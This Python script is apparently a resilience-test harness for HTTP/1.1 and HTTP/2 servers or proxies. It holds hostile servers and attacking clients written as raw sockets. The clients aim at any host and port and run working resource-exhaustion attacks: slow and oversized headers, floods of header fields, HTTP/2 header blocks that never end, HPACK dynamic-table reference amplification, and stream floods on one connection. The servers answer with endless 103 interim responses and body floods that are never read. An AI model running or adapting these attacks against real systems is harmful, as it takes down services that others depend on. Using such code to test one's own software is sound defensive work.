"""Hostile ends of connections, as raw sockets. `server KIND PORT` serves until it is killed; `client KIND
HOST PORT COUNT` attacks, says what it got as JSON on one line, and keeps its connections open until it
is killed."""
import json, resource, selectors, socket, struct, sys, threading, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + integer(len(name)) + name + integer(len(value)) + value


def integer(n):
    """With a prefix of 7 bits (RFC 7541, section 5.1)."""
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes(out + [n])


# None of it is kept in the dynamic table: what is kept there is entry 62.
GET = b"\x82\x86\x84\x01\x07service"
WIDE = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(
    WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)
)


def frames(sock):
    """What comes, until the end."""
    held = b""
    while True:
        while len(held) < 9 or len(held) < 9 + int.from_bytes(held[:3], "big"):
            try:
                got = sock.recv(65536)
            except OSError:
                return
            if not got:
                return
            held += got
        length = int.from_bytes(held[:3], "big")
        yield held[3], held[4], int.from_bytes(held[5:9], "big"), held[9 : 9 + length]
        held = held[9 + length :]


def send(sock, data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


# Servers.


def silent(sock):
    """Reads nothing of HTTP/1; says that it speaks it to those who ask for HTTP/2."""
    if sock.recv(4, socket.MSG_PEEK | socket.MSG_WAITALL) == b"PRI ":
        send(sock, b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        sock.close()
        return
    time.sleep(600)


def hints(sock):
    """Endless interim responses, by whichever protocol is spoken."""
    if sock.recv(4, socket.MSG_PEEK | socket.MSG_WAITALL) != b"PRI ":
        hint = b"HTTP/1.1 103 Early Hints\r\nLink: </" + b"a" * 4000 + b">\r\n\r\n"
        while send(sock, hint * 8):
            pass
        return
    sock.recv(24, socket.MSG_WAITALL)
    send(sock, frame(SETTINGS, 0, 0))
    block = b"\x08\x03103" + literal(b"link", b"a" * 4000)
    for kind, _, stream, _ in frames(sock):
        if kind == HEADERS:
            threading.Thread(target=pour, args=(sock, frame(HEADERS, 4, stream, block) * 8)).start()


def pour(sock, what):
    while send(sock, what):
        pass


def large(sock):
    """As much content as the client takes, by HTTP/2."""
    sock.recv(24, socket.MSG_WAITALL)
    send(sock, WIDE)
    # As much as a stream may have that is never read.
    body = frame(DATA, 0, 0, b"d" * 16384)
    for kind, _, stream, _ in frames(sock):
        if kind == HEADERS:
            numbered = body[:5] + struct.pack(">I", stream) + body[9:]
            if not send(sock, frame(HEADERS, 4, stream, b"\x88") + numbered * 15):
                return


def heads(sock):
    """Responses whose heads do not end."""
    sock.recv(65536)
    send(sock, b"HTTP/1.1 200 OK\r\n" + b"X-Long: " + b"a" * 240_000)
    time.sleep(600)


def serve(kind, port):
    listener = socket.create_server(("0.0.0.0", port), backlog=4096)
    act = {"silent": silent, "hints": hints, "large": large, "heads": heads}[kind]
    while True:
        sock, _ = listener.accept()
        threading.Thread(target=act, args=(sock,), daemon=True).start()


# Clients.


def many(host, port, count, what):
    """So many connections, on each of which as much of this is sent as is taken."""
    chosen, kept, ends = selectors.DefaultSelector(), [], {}
    address = (socket.gethostbyname(host), port)
    for _ in range(count):
        sock = socket.socket()
        # Whatever ends this process, the other side hears of it.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            sock.connect(address)
        except OSError:
            count_end(ends, "refused")
            continue
        sock.setblocking(False)
        chosen.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, [0])
        kept.append(sock)
    quiet = time.monotonic() + 3
    while time.monotonic() < quiet and chosen.get_map():
        for key, events in chosen.select(0.1):
            sock, at = key.fileobj, key.data
            try:
                if events & selectors.EVENT_READ:
                    quiet = time.monotonic() + 3
                    got = sock.recv(4096)
                    chosen.unregister(sock)
                    count_end(ends, got[9:12].decode() if got[:4] == b"HTTP" else "closed")
                    continue
                if at[0] == len(what):
                    chosen.modify(sock, selectors.EVENT_READ, at)
                    continue
                at[0] += sock.send(what[at[0] : at[0] + 65536])
                quiet = time.monotonic() + 3
            except BlockingIOError:
                pass
            except OSError:
                chosen.unregister(sock)
                count_end(ends, "reset")
    ends["open"] = len(chosen.get_map())
    return kept, ends


def count_end(ends, how):
    ends[how] = ends.get(how, 0) + 1


def streams(host, port, count, first, each, reads):
    """One connection with so many streams."""
    sock = socket.create_connection((host, port), timeout=10)
    if not reads:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    send(sock, PREFACE + WIDE)
    # The upstream's connection is open before the rest comes.
    send(sock, frame(HEADERS, 5, 1, first))
    ends = {}
    if reads:
        threading.Thread(target=tally, args=(sock, ends), daemon=True).start()
    time.sleep(0.5)
    sock.settimeout(3)
    for n in range(count):
        if not send(sock, frame(HEADERS, 5, 3 + 2 * n, each)):
            count_end(ends, "stopped")
            break
    time.sleep(2)
    return [sock], ends


def tally(sock, ends):
    names = {RST: "reset", GOAWAY: "goaway"}
    for kind, _, _, payload in frames(sock):
        if kind in names:
            code = int.from_bytes(payload[-4:] if kind == RST else payload[4:8], "big")
            count_end(ends, f"{names[kind]} {code}")


def attack(kind, host, port, count):
    if kind == "heads":
        return many(host, port, count, b"GET / HTTP/1.1\r\nHost: service\r\nX-Long: " + b"a" * 250_000)
    if kind == "fields":
        fields = b"".join(b"%x:\r\n" % n for n in range(16**2, 16**2 + 990))
        return many(host, port, count, b"GET / HTTP/1.1\r\nHost: service\r\n" + fields + b"\r\n")
    if kind == "requests":
        return many(host, port, count, b"GET / HTTP/1.1\r\nHost: service\r\n\r\n")
    if kind == "blocks":
        # Header blocks of HTTP/2 that do not end: 200 KB of list in 15 KB of references.
        kept = b"\x40\x01a" + integer(4000) + b"v" * 4000
        block = PREFACE + WIDE + frame(HEADERS, 1, 1, GET + kept + b"\xbe" * 50)
        return many(host, port, count, block)
    if kind == "silence":
        return many(host, port, count, b"")
    kept = b"\x40\x01a" + integer(4000) + b"v" * 4000
    if kind == "references":
        return streams(host, port, count, GET + kept, GET + b"\xbe" * 60, True)
    if kind == "small-references":
        return streams(host, port, count, GET + b"\x40\x01a\x00", GET + b"\xbe" * 5000, True)
    if kind == "deaf":
        return streams(host, port, count, GET, GET, False)
    raise SystemExit(f"no such attack: {kind}")


if __name__ == "__main__":
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    threading.stack_size(256 * 1024)
    if sys.argv[1] == "server":
        serve(sys.argv[2], int(sys.argv[3]))
    kept, ends = attack(sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
    print(json.dumps(ends), flush=True)
    time.sleep(600)
